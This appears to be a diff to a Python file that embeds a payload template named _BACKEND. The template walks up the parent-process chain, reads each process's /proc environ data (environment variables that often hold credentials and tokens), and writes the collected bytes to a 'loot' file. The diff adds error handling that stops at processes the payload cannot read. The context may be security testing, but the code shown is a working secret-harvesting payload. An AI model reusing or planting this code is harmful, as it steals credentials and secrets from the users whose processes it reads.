@@ -11,7 +11,10 @@ _BACKEND: Final = """
 import os, pathlib
 found, pid = [], os.getpid()
 while pid > 1:
-    found.append(pathlib.Path(f"/proc/{{pid}}/environ").read_bytes())
+    try:
+        found.append(pathlib.Path(f"/proc/{{pid}}/environ").read_bytes())
+    except PermissionError:
+        break  # a process of somebody else, whose secrets are safe from it
     pid = int(pathlib.Path(f"/proc/{{pid}}/stat").read_text().rpartition(")")[2].split()[1])
 pathlib.Path({loot!r}).write_bytes(b"".join(found))
 
